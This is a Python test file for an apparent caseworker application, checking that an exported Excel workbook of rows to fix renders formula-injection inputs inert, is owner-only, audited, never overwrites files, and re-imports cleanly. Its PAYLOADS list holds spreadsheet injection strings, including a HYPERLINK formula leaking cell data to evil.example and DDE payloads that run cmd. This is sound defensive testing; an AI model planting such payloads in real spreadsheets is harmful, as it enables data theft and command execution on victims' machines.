"""The workbook of rows to fix: formula-safe, owner-only, audited, never over a file, and re-importable
(issue 12, point 2)."""

from __future__ import annotations

import stat
import zipfile
from pathlib import Path

import openpyxl
import pytest
from hypothesis import assume, given
from hypothesis import strategies as st
from sqlalchemy import select

from caseworker.domain.errors import ValidationError
from caseworker.services.api import Services
from caseworker.services.intake import ImportRequest
from caseworker.store.models import AuditEvent, Person
from tests.support import referrals
from tests.support.stores import services_for

HEADINGS = ("Name", "DOB", "Phone", "Employer", "Comments")
PAYLOADS = ('=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0")


def _rows_written(path: Path) -> list[tuple[object, ...]]:
    return list(openpyxl.load_workbook(path).active.iter_rows(values_only=True))


def test_formula_payloads_come_back_inert_and_the_file_is_the_owners_only(caseworker: Services, tmp_path: Path) -> None:
    rows = [("Ahmad Noori", "31/02/1990", PAYLOADS[0], PAYLOADS[1], PAYLOADS[2]),  # warned (bad date, bad phone)
            (None, None, None, PAYLOADS[3], "no name")]  # rejected
    out = tmp_path / "fix.xlsx"
    listing = referrals.write_csv(tmp_path / "in.csv", "utf-8", rows, HEADINGS, title=None)  # CSV keeps the text
    report = caseworker.intake.run_import(ImportRequest(listing, source="t", rejects_path=out))
    assert (report.created, report.warned, report.rejected, report.rejects_file) == (1, 1, 1, str(out))
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    with zipfile.ZipFile(out) as book:
        sheet = book.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet and b"<f " not in sheet  # no cell is a formula
    written = _rows_written(out)
    assert written[1][3:6] == tuple("'" + p for p in PAYLOADS[:3])  # shown as text even when edited in Excel
    assert written[2][4] == "'" + PAYLOADS[3]
    assert all(not (isinstance(c, str) and c[:1] in "=+-@") for row in written for c in row)


def test_an_existing_file_is_never_replaced_unless_asked(caseworker: Services, tmp_path: Path) -> None:
    listing = referrals.write_xlsx(tmp_path / "mp.xlsx")
    out = tmp_path / "fix.xlsx"
    out.write_bytes(b"the caseworker's own notes")
    with pytest.raises(ValidationError, match="exists already"):
        caseworker.intake.run_import(ImportRequest(listing, source="MP", rejects_path=out))
    assert out.read_bytes() == b"the caseworker's own notes"
    with caseworker.store.read() as session:  # refused before anything was written
        assert session.query(Person).count() == 0
    report = caseworker.intake.run_import(ImportRequest(listing, source="MP", rejects_path=out, overwrite=True))
    assert report.created == 10 and _rows_written(out)[0][0] == "Row in original file"
    again = caseworker.intake.run_import(ImportRequest(listing, source="MP"))  # next to the input, a new name
    assert again.rejects_file and Path(again.rejects_file).name.startswith("mp-to-fix-")


def test_the_file_is_audited_with_its_batch_and_in_the_access_log_of_its_cases(store, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    caseworker = services_for(store, "caseworker")
    report = caseworker.intake.run_import(ImportRequest(referrals.write_xlsx(tmp_path / "mp.xlsx"), source="MP",
                                                        rejects_path=tmp_path / "fix.xlsx"))
    with store.read() as session:
        events = session.execute(select(AuditEvent).where(AuditEvent.action == "export.intake_outcomes")).scalars().all()
        assert [(e.entity_type, e.entity_id) for e in events] == [("import_batch", report.batch_id)]
    warned_case = caseworker.cases.id_for_reference(next(r.case for r in report.results if r.row == 14))
    log = services_for(store, "officer").history.who_saw(warned_case)
    assert [e.action for e in log if e.action.startswith("export.")] == ["export.intake_outcomes"]
    assert caseworker.history.verify().ok


def test_a_fixed_warning_row_comes_back_to_the_person_it_made(caseworker: Services, tmp_path: Path) -> None:
    out = tmp_path / "fix.xlsx"
    first = caseworker.intake.run_import(ImportRequest(referrals.write_xlsx(tmp_path / "mp.xlsx"), source="MP",
                                                       rejects_path=out))
    sultani = next(r for r in first.results if r.row == 15)
    book = openpyxl.load_workbook(out)
    for row in book.active.iter_rows(min_row=2):
        if row[0].value == 15:
            row[10].value = "+93 70 123 4567"  # the phone, fixed
    book.save(out)
    second = caseworker.intake.run_import(ImportRequest(out, source="MP", rejects_path=tmp_path / "again.xlsx"))
    by_row = {r.row: r for r in second.results}
    assert {r: by_row[r].outcome for r in by_row} == {2: "UNCHANGED", 3: "UPDATED", 4: "REJECTED", 5: "REJECTED",
                                                      6: "REJECTED"}
    assert by_row[3].person_id == sultani.person_id and second.created == second.queued == 0
    person = next(p for p in caseworker.cases.get_by_reference(sultani.case).people if p.id == sultani.person_id)
    assert [c.value for c in person.contact_points] == ["+93701234567"]


@given(st.text(st.characters(blacklist_categories=("Cc", "Cs"), blacklist_characters="\u202a\u202b\u202c\u202d"
                             "\u202e\u2066\u2067\u2068\u2069\ufffe\uffff\uff1d\uff0b\uff0d\uff20"), max_size=40)
       | st.sampled_from((*PAYLOADS, "#DIV/0!", "#N/A", "=1+1", "@")))
def test_a_cell_made_inert_reads_back_as_it_was_written(value: str) -> None:
    from caseworker.documents.cells import safe_text
    from caseworker.services.intake.outcomes import unquote

    assume(not value.startswith("'") and value.strip() == value and " " * 2 not in value)
    shown = safe_text(value)
    assert shown[:1] not in ("=", "+", "-", "@")
    assert unquote(shown) == value
